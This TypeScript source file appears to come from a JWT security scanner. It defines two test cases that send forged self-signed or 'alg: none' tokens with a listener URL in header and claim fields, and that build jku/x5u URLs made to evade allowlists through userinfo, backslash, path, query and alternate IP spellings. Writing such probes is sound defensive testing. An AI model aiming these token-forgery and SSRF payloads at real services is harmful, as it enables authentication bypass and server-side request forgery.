import { encode, type Json, rsaToken } from '../../forge/jws.ts';
import type { Attempt } from '../../matrix/attempt.ts';
import type { Case } from '../../matrix/case.ts';
import type { CaseContext } from '../../matrix/context.ts';
import { fail, type Judgement } from '../../matrix/judgement.ts';
import { bearer, bearers } from '../shared/requests.ts';
import { foreignCase, selfSigned } from './self-signed.ts';

/** Members of a header that some library follows (RFC 7515 section 4.1, and habits). */
const HEADER_URLS =
  'jku x5u jwks_uri jwk_uri jwksUri jwks_url jwk url uri href kid x5c x5t iss aud alg enc typ cty crit epk apu zip issuer keys key cert certs ref src location'.split(
    ' ',
  );

/** Claims that some server resolves. */
const CLAIM_URLS =
  'iss aud sub jti azp client_id jku jwks_uri jwks_url x5u url uri href profile picture website issuer authority discovery metadata introspection_endpoint userinfo_endpoint redirect_uri callback callback_url webhook src htu resource _claim_sources schema status'.split(
    ' ',
  );

const fetched = ({ hits }: CaseContext): Judgement | undefined => {
  const [path] = hits();
  return path === undefined
    ? undefined
    : fail(`The target fetched a URL out of a token that nobody signed: ${path}.`);
};

const everyMember = async (context: CaseContext): Promise<readonly Attempt[]> => {
  const url = await context.bait('/jwks.json');
  const issuer = await context.bait('');
  // First of all: where there is no token to start from, nothing else may be under way.
  const { header, payload } = await context.parts();
  const headers = HEADER_URLS.map(
    async (name) => [`header ${name}`, await selfSigned(context, { [name]: url })] as const,
  );
  const claims = CLAIM_URLS.map(
    async (name) =>
      [`claim ${name}`, await selfSigned(context, { kid: 'mizt-auth-probe' }, { [name]: issuer })] as const,
  );
  const unsigned = (changes: Json): string =>
    `${encode({ ...header, alg: 'none' })}.${encode({ ...payload, ...changes })}.`;
  return bearers(context, {
    ...Object.fromEntries(await Promise.all([...headers, ...claims])),
    'claim iss, unsigned': unsigned({ iss: issuer }),
  });
};

/** URLs that slip past a list of allowed ones and lead to the probe's listener all the same. */
const slippery = (bait: string, trusted: URL): Readonly<Record<string, string>> => {
  const own = new URL(bait);
  const to = (change: (url: URL) => void): string => {
    const url = new URL(bait);
    change(url);
    return url.href;
  };
  return {
    'as user of the listener': to((url) => {
      url.username = trusted.hostname;
    }),
    // A check for the start of the trusted origin finds it whole, port and all.
    'as user and password': to((url) => {
      url.username = trusted.hostname;
      url.password = trusted.port || '443';
    }),
    'in the path': `${own.origin}${own.pathname.replace(/[^/]*$/, '')}${trusted.host}/jwks.json`,
    'in the query': `${bait}?${trusted.href}`,
    'in the fragment': `${bait}#${trusted.href}`,
    'behind a backslash': `${own.origin}\\@${trusted.host}${own.pathname}`,
    'as the start of the path': `${own.origin}/${own.pathname.split('/')[1]}/${trusted.href}/jwks.json`,
    'with dots': `${own.origin}${own.pathname.replace('/jwks.json', '')}/.well-known/../jwks.json`,
    'localhost for the address': bait.replace('127.0.0.1', 'localhost'),
    'short address': bait.replace('127.0.0.1', '127.1'),
    'decimal address': bait.replace('127.0.0.1', '2130706433'),
    'hexadecimal address': bait.replace('127.0.0.1', '0x7f000001'),
    'mapped address': bait.replace('127.0.0.1', '[::ffff:127.0.0.1]'),
  };
};

const pastAllowlists = async (context: CaseContext): Promise<readonly Attempt[]> => {
  const { header, payload } = await context.parts();
  const { privateKey, jwk } = await context.ownKey();
  const trusted = new URL(URL.canParse(String(payload.iss)) ? String(payload.iss) : context.route.url);
  const urls = slippery(await context.bait('/jwks.json'), trusted);
  return Object.entries(urls).flatMap(([label, url]) =>
    ['jku', 'x5u'].map((member) =>
      bearer(
        context,
        `${member} ${label}`,
        rsaToken({ ...header, kid: jwk.kid, [member]: url }, payload, privateKey),
      ),
    ),
  );
};

/** URLs in tokens, which no verifier has a reason to follow. */
export const urlsAnywhere: readonly Case[] = [
  foreignCase({
    id: 'C47',
    slug: 'url-any-member',
    long: true,
    title: 'URL in any member of a token',
    standard: 'RFC 8725 §2.9 and §3.10, ASVS 5.0 9.1.3',
    sent: 'self-signed tokens with the probe’s listener in each header and each claim that some library follows',
    attempts: everyMember,
    check: fetched,
  }),
  foreignCase({
    id: 'C48',
    slug: 'url-past-allowlist',
    title: 'Key URL that looks allowed',
    standard: 'RFC 8725 §3.10, ASVS 5.0 9.1.3',
    sent: 'jku and x5u that lead to the probe’s listener, with the issuer’s host as user, path, query or fragment, and the listener’s address in other spellings',
    attempts: pastAllowlists,
    check: fetched,
  }),
];
